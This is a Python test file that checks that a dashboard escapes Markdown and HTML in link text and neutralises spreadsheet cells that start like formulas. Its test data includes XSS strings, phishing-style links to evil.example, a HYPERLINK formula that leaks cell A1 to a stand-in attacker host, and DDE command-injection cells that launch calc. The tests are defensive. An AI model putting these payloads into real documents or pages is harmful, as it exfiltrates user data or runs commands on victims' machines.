"""Text from links and data is inert: no Markdown link, image or HTML; no spreadsheet formula."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from dashboard.text import inert, neutralise_cell

HOSTILE = [
    "![x](https://evil.example/x.png)",
    "[Official notice: re-login here](https://evil.example/login)",
    "<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://evil.example/auto",
    "www.evil.example",
    "**bold** _it_ `code` $x^2$ # heading",
    "<https://evil.example>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_renders_as_its_own_characters(text: str) -> None:
    rendered = MarkdownIt("gfm-like").render(inert(text))
    assert not re.search(r"<(a|img|script|strong|em|code|h1)\b", rendered)
    # what a reader sees is the text itself (entities aside)
    visible = re.sub(r"<[^>]+>", "", rendered).strip()
    import html

    assert html.unescape(visible) == html.unescape(text).replace("\n", " ")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("ถนนเป็นหลุม", "ถนนเป็นหลุม"),
        ("", ""),
        (13.75, 13.75),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_stays_text(cell: object, safe: object) -> None:
    assert neutralise_cell(cell) == safe
